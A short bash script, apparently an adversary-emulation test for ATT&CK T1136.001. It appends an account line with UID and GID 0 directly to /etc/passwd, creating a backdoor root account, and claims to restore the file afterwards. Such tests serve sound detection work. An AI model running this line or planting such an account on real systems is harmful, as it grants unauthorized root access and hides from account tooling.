#!/bin/bash
# technique: T1136.001
# tactic: persistence
# what: an account line appended to /etc/passwd by a shell, without the account tools
# source: ART T1136.001 (create account), written directly as backdoors do
# cleanup: /etc/passwd is put back exactly as it was (its mode and content) at exit
. "$(dirname "$0")/lib.sh"
vg_keep /etc/passwd
echo "vg${VG_MARK: -8}:x:0:0::/root:/bin/bash" >> /etc/passwd
